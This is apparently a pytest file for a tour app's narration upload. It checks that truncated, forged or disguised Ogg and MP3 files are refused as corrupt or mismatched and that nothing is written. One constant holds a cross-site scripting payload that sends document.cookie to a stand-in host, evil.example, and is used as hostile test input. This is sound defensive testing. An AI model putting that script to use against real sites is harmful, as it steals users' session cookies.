"""Narration audio checked end to end: an Ogg file cut in half, cut at a page, with HTML
appended, with a forged duration, a damaged page or a second stream, an MP3 or M4A with
bytes appended, is AUDIO_CORRUPT (cut MP3 and M4A files are tests/tours/test_stops.py's);
confirming one deletes its upload and writes nothing else (both stores, both databases). An
MP3 is accepted as a narration or as another format of one; a lying file (Ogg, WAV or HTML
declared as MP3), a broken one or another recording is refused with its code, nothing
written."""

from __future__ import annotations

import io
import struct
from collections.abc import Callable
from typing import Any

import pytest
from mutagen.mp3 import MP3
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncConnection, AsyncSession

from core.errors import DomainError
from media.audio import check_audio
from media.audio_containers import ogg_crc
from media.errors import MediaError
from media.store import MediaStore
from qr.demo import demo_file
from tests.accounts.helpers import snapshot
from tests.qr.conftest import STAFF, data_file
from tours import narrations, stops
from tours.models import Narration

HTML = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
VTT = "WEBVTT\n\n00:00.000 --> 00:02.000\nXin chao.\n"


def ogg_pages(data: bytes) -> list[bytes]:
    """The pages of an Ogg file, as they are."""
    pages, pos = [], 0
    while pos < len(data):
        segments = data[pos + 26]
        end = pos + 27 + segments + sum(data[pos + 27:pos + 27 + segments])
        pages.append(data[pos:end])
        pos = end
    return pages


def resealed(page: bytes, *, granule: int | None = None, flags: int | None = None,
             serial: int | None = None) -> bytes:
    """A page with some header fields changed and its CRC made right again."""
    header = bytearray(page)
    if flags is not None:
        header[5] = flags
    if granule is not None:
        header[6:14] = struct.pack("<q", granule)
    if serial is not None:
        header[14:18] = struct.pack("<I", serial)
    header[22:26] = struct.pack("<I", ogg_crc(bytes(header)))
    return bytes(header)


def _ogg() -> bytes:
    return demo_file("chua-ba-thien-hau-2.vi.ogg")


def cut_at_a_page() -> bytes:
    pages = ogg_pages(_ogg())
    return b"".join(pages[: len(pages) // 2])


def longer_than_it_is() -> bytes:
    pages = ogg_pages(_ogg())
    last = pages[-1]
    granule = struct.unpack("<q", last[6:14])[0]
    return b"".join(pages[:-1]) + resealed(last, granule=granule + 48_000 * 600)


def second_stream() -> bytes:
    pages = ogg_pages(_ogg())
    return _ogg() + b"".join(resealed(p, serial=0x5EC0) for p in pages)


def damaged_page() -> bytes:
    data = bytearray(_ogg())
    data[len(data) // 2] ^= 0xFF
    return bytes(data)


HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    ("Ogg cut in half", lambda: _ogg()[: len(_ogg()) // 2], "audio/ogg"),
    ("Ogg cut at a page", cut_at_a_page, "audio/ogg"),
    ("Ogg with HTML appended", lambda: _ogg() + HTML, "audio/ogg"),
    ("Ogg claiming ten more minutes", longer_than_it_is, "audio/ogg"),
    ("Ogg with a second stream", second_stream, "audio/ogg"),
    ("Ogg with a damaged page", damaged_page, "audio/ogg"),
    ("MP3 with HTML appended", lambda: data_file("tone.mp3") + HTML, "audio/mpeg"),
]


@pytest.mark.parametrize(("name", "make", "content_type"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_cut_or_padded_file_is_corrupt(name: str, make: Callable[[], bytes],
                                         content_type: str) -> None:
    with pytest.raises(MediaError) as refused:
        check_audio(make(), content_type=content_type)
    assert refused.value.code == "AUDIO_CORRUPT", refused.value.message


@pytest.mark.parametrize("name", ["Ogg cut in half", "Ogg with HTML appended",
                                  "MP3 with HTML appended"])
async def test_confirming_a_cut_or_padded_narration_deletes_it_and_writes_nothing(
        session: AsyncSession, store: MediaStore, connection: AsyncConnection,
        name: str) -> None:
    from tests.qr.conftest import make_guide_stop

    _, make, content_type = next(h for h in HOSTILE if h[0] == name)
    guide = await make_guide_stop(session, store)
    post = await narrations.request_narration_upload(
        session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ko",
        content_type=content_type)
    store.put(post.key, make(), content_type)
    await session.flush()
    before = await snapshot(connection, store)
    with pytest.raises(DomainError) as refused:
        await narrations.confirm_narration_upload(
            session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ko",
            key=post.key, transcript=VTT, translation=stops.Translation.HUMAN)
    assert refused.value.code == "AUDIO_CORRUPT"
    assert await snapshot(connection, store) == dict(
        before, store=[k for k in before["store"] if k != post.key])


# -- MP3 beside Ogg: one narration, several formats -------------------------------------------

def _narration_row(narration: Narration) -> tuple[str, str, int, float, list[dict[str, object]]]:
    return (narration.audio_key, narration.audio_type, narration.audio_bytes,
            narration.duration_s, list(narration.alternatives))


@pytest.mark.parametrize("first", ["audio/ogg", "audio/mpeg"])
async def test_an_mp3_narration_upload_is_kept_alone_or_beside_its_ogg(
        session: AsyncSession, store: MediaStore, first: str) -> None:
    from tests.qr.conftest import make_guide_stop

    guide = await make_guide_stop(session, store)  # vi and en narrated in Ogg
    mp3 = demo_file("chua-ba-thien-hau-2.vi.mp3")
    # a new language whose first audio is an MP3, or the MP3 of the Vietnamese narration
    # (uploaded without a transcript)
    lang = "ko" if first == "audio/mpeg" else "vi"
    post = await narrations.request_narration_upload(
        session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang=lang,
        content_type="audio/mpeg")
    store.put(post.key, mp3, "audio/mpeg")
    transcript = demo_file("chua-ba-thien-hau-2.vi.vtt").decode() if lang == "ko" else None
    narration = await narrations.confirm_narration_upload(
        session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang=lang,
        key=post.key, transcript=transcript, translation=stops.Translation.HUMAN)
    if first == "audio/mpeg":
        assert (narration.audio_type, narration.audio_codec) == ("audio/mpeg", "mp3")
        assert narration.alternatives == []
    else:
        assert narration.audio_type == "audio/ogg"  # the Ogg stays the first format
        [alternative] = narration.alternatives
        assert alternative["type"] == "audio/mpeg" and alternative["key"] == post.key
    sources = {s.content_type: s for s in stops.audio_sources(narration)}
    source = sources["audio/mpeg"]
    assert store.get(source.key) == mp3 and source.bytes == len(mp3)
    assert source.codec == "mp3"
    read: Any = MP3(io.BytesIO(mp3))  # type: ignore[no-untyped-call]
    assert abs(source.duration_s - float(read.info.length)) < 0.01


def lying_mp3() -> bytes:
    return _ogg()  # an Ogg file declared as MP3


LIARS: list[tuple[str, Callable[[], bytes], str]] = [
    ("Ogg declared as MP3", lying_mp3, "AUDIO_TYPE_MISMATCH"),
    ("WAV declared as MP3", lambda: data_file("tone.wav"), "AUDIO_TYPE_MISMATCH"),
    ("HTML declared as MP3", lambda: HTML, "AUDIO_TYPE_MISMATCH"),
    ("MP3 with HTML appended", lambda: data_file("tone.mp3") + HTML, "AUDIO_CORRUPT"),
    ("MP3 cut in half", lambda: demo_file("den-do-1.vi.mp3")[:-1000], "AUDIO_CORRUPT"),
    ("MP3 of another recording", lambda: demo_file("den-do-1.en.mp3"),
     "NARRATION_FORMATS_DISAGREE"),
]


@pytest.mark.parametrize(("name", "make", "code"), LIARS, ids=[x[0] for x in LIARS])
@pytest.mark.parametrize("path", ["upload", "bytes"])
async def test_a_lying_or_foreign_mp3_format_is_refused_and_nothing_is_written(
        session: AsyncSession, store: MediaStore, connection: AsyncConnection,
        name: str, make: Callable[[], bytes], code: str, path: str) -> None:
    from tests.qr.conftest import make_guide_stop

    guide = await make_guide_stop(session, store)
    narration = (await session.execute(select(Narration).where(
        Narration.stop_id == guide.stop.id, Narration.lang == "vi"))).scalar_one()
    row = _narration_row(narration)
    post = None
    if path == "upload":
        post = await narrations.request_narration_upload(
            session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="vi",
            content_type="audio/mpeg")
        store.put(post.key, make(), "audio/mpeg")
    await session.flush()
    before = await snapshot(connection, store)
    with pytest.raises(DomainError) as refused:
        if post is not None:
            await narrations.confirm_narration_upload(
                session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="vi",
                key=post.key, transcript=None)
        else:
            await narrations.add_narration_format(
                session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="vi",
                audio=make(), content_type="audio/mpeg")
    assert refused.value.code == code, refused.value.message
    await session.refresh(narration)
    assert _narration_row(narration) == row
    after = await snapshot(connection, store)
    gone = {post.key} if post is not None else set()  # a refused upload is deleted
    assert after == dict(before, store=[k for k in before["store"] if k not in gone])


async def test_a_format_needs_a_narration_in_its_language(
        session: AsyncSession, store: MediaStore, connection: AsyncConnection) -> None:
    from tests.qr.conftest import make_guide_stop

    guide = await make_guide_stop(session, store)
    before = await snapshot(connection, store)
    with pytest.raises(DomainError) as refused:
        await narrations.add_narration_format(
            session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ja",
            audio=demo_file("chua-ba-thien-hau-2.vi.mp3"), content_type="audio/mpeg")
    assert refused.value.code == "NARRATION_NOT_FOUND"
    assert await snapshot(connection, store) == before


async def test_a_new_narration_replaces_every_format_of_the_old(
        session: AsyncSession, store: MediaStore) -> None:
    from tests.qr.conftest import make_guide_stop

    guide = await make_guide_stop(session, store)
    old = await narrations.add_narration_format(
        session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="en",
        audio=demo_file("chua-ba-thien-hau-2.en.mp3"), content_type="audio/mpeg")
    old_keys = [s.key for s in stops.audio_sources(old)] + [old.transcript_key]
    assert len(old_keys) == 3 and all(store.head(k) for k in old_keys)
    new = await narrations.add_narration(
        session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="en",
        audio=demo_file("den-do-1.en.mp3"), content_type="audio/mpeg",
        transcript=demo_file("den-do-1.en.vtt").decode(), translation=stops.Translation.HUMAN)
    assert [s.content_type for s in stops.audio_sources(new)] == ["audio/mpeg"]
    assert not any(store.head(k) for k in old_keys)
